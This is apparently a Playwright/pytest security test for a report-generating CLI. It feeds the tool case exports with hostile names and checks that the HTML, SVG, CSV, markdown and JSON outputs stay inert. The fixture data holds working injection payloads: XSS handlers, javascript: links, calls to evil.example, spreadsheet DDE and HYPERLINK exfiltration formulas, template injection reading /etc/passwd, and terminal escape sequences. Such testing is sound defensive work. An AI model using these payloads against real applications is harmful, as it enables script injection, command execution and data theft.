"""What stands in an export is text in the report: no script of it runs, no address of it is asked for."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from groundswell_cli.main import main

pytestmark = pytest.mark.browser
OWN = "window.owned=1;document.title='owned'"
NAMES = {
    "Checking": f'<script>{OWN}</script><img src="http://evil.example/x.png" onerror="{OWN}">',
    "Asking": f'</script></style></title></svg><svg onload="{OWN}"><script>{OWN}</script>',
    "Deciding": "![x](http://evil.example/x.png) [click](javascript:window.owned=1) <http://evil.example>",
    "Decided": f"' onmouseover='{OWN}' autofocus onfocus='{OWN}' x=\"",
    "Office 0": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Office 1": "+cmd|' /C calc'!A0",
    "web": "@SUM(1+1)*cmd|'x'!A1",
    "paper": "{{7*7}} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "desk": "\x1b]0;owned\x07\x1b[31m \u202egnp.exe",
    "new": "| a | b |\n|---|---|\n# heading <b>",
    "old": "&lt;script&gt;&#x3c;script&#x3e; \\u003cscript\\u003e -->",
    "Anna": f"javascript:{OWN}//",
}
COLUMN = f'kind"><img src=x onerror={OWN}>'
MAPPING = """\
shape = "events"
[columns]
case = "case"
step = "step"
at = "at"
officer = "officer"
office = "office"
channel = "channel"
case_attributes = [{column}]
[times]
zone = "UTC"
[ends]
steps = [{end}]
[privacy]
keep_identifiers = true
keep = [{column}]
"""
LISTENERS = """[...document.querySelectorAll('*')].flatMap(one => [...one.attributes])
    .map(each => each.name).filter(name => name.startsWith('on'))"""
QUIET = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]


def write_export(folder: Path) -> list[str]:
    """Write an export of 120 cases, 20 of them open, in which every name is hostile."""
    with (folder / "export.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["case", "step", "at", "officer", "office", "channel", COLUMN])
        for case in range(120):
            at = datetime(2024, 1, 1, 9) + timedelta(hours=17 * case)
            channel = NAMES[("web", "paper", "desk")[case % 3]]
            for place, step in enumerate(
                ("Received", "Checking", "Asking", "Checking", "Deciding", "Decided")
            ):
                if case > 100 and place > case % 5:
                    break
                at += timedelta(hours=(case * 7 + place * 11) % 60 + 1)
                who = (NAMES["Anna"], f"Office {case % 2}")
                kind = NAMES[("new", "old")[case % 2]]
                name = f"=1+{case}" if case % 2 else f"<b>{case}"
                writer.writerow([name, NAMES.get(step, step), at, who[0], NAMES[who[1]], channel, kind])
    mapping = MAPPING.format(column=json.dumps(COLUMN), end=json.dumps(NAMES["Decided"]))
    (folder / "m.toml").write_text(mapping, encoding="utf-8")
    (folder / "key").write_text("a key that is long enough")
    return [
        str(folder / "export.csv"),
        "--mapping",
        str(folder / "m.toml"),
        "--key-file",
        str(folder / "key"),
    ]


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of the report of that export."""
    folder = tmp_path_factory.mktemp("hostile")
    arguments = ["--out", str(folder / "out"), "--no-pdf", "--title", NAMES["Checking"]]
    assert main(["report", *write_export(folder), *arguments]) == 0
    return folder / "out"


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=chromium, args=QUIET)
        yield opened
        opened.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """An empty page that keeps what is asked for and every dialog."""
    opened = browser.new_page()
    opened.asked = []  # type: ignore[attr-defined]
    opened.on("request", lambda asked: opened.asked.append(asked.url))  # type: ignore[attr-defined]
    opened.on("dialog", lambda dialog: (opened.asked.append(dialog.message), dialog.dismiss()))  # type: ignore[attr-defined]
    yield opened
    opened.close()


def touch_everything(page: Page) -> None:
    """Open all folds and let the pointer and the focus pass over everything that could listen."""
    page.evaluate(
        """() => {
          document.querySelectorAll('details').forEach(fold => { fold.open = true; });
          document.querySelectorAll('*').forEach(one => {
            for (const kind of ['mouseover', 'focus', 'load', 'error']) one.dispatchEvent(new Event(kind));
          });
        }"""
    )


def test_page_with_hostile_names_runs_and_asks_for_nothing(page: Page, report: Path) -> None:
    place = report / "report.html"
    page.goto(place.as_uri())

    touch_everything(page)

    assert page.asked == [place.as_uri()]  # type: ignore[attr-defined]
    assert page.evaluate("window.owned") is None
    assert page.title() != "owned"
    assert (
        page.evaluate("document.querySelectorAll('img, iframe, object, embed, form, base, link').length") == 0
    )
    assert page.evaluate(LISTENERS) == []
    addresses = page.evaluate("[...document.querySelectorAll('[href]')].map(one => one.getAttribute('href'))")
    assert not [one for one in addresses if not re.match(r"^(#|[\w./-]+$|data:)", one)]
    text = page.inner_text("body")
    assert "<script>" in text
    assert "49" not in re.findall(r"\{\{.*?\}\}|\b49 \{%", text)


def test_charts_with_hostile_names_opened_alone_run_nothing(page: Page, report: Path) -> None:
    charts = sorted((report / "charts").glob("*.svg"))

    assert len(charts) > 4
    for chart in charts:
        page.asked.clear()  # type: ignore[attr-defined]
        page.goto(chart.as_uri())
        touch_everything(page)
        assert page.asked == [chart.as_uri()], chart.name  # type: ignore[attr-defined]
        assert page.evaluate("window.owned") is None, chart.name
        assert (
            page.evaluate("document.querySelectorAll('script, foreignObject, image, parsererror').length")
            == 0
        )


def test_tables_with_hostile_names_hold_no_formula(report: Path) -> None:
    tables = [*(report / "tables").glob("*.csv"), *report.glob("*.csv")]

    assert len(tables) > 10
    for table in tables:
        with table.open(encoding="utf-8-sig", newline="") as stream:
            for cell in (cell for row in csv.reader(stream) for cell in row):
                number = re.fullmatch(r"-?[\d.,]+(e-?\d+)?%?", cell)
                assert number or not cell.lstrip().startswith(("=", "+", "-", "@")), (table.name, cell)
                assert not find_controls(cell), (table.name, cell)


def test_summary_with_hostile_names_has_no_live_markup(report: Path) -> None:
    text = (report / "summary.md").read_text(encoding="utf-8")

    assert not re.search(r"(?<!\\)<\s*/?\s*(script|img|svg|b|http)", text)
    assert not re.search(r"(?<!\\)\]\((javascript|http://evil)", text)
    assert not find_controls(text)


def test_document_with_hostile_names_keeps_them_as_data(report: Path) -> None:
    text = (report / "findings.json").read_text(encoding="utf-8")

    assert json.loads(text)["findings"]
    assert not find_controls(text)


def find_controls(text: str) -> set[str]:
    """Find the characters that a terminal would obey; a word joiner, which keeps addresses from being links, may be."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t\r\u2060"}
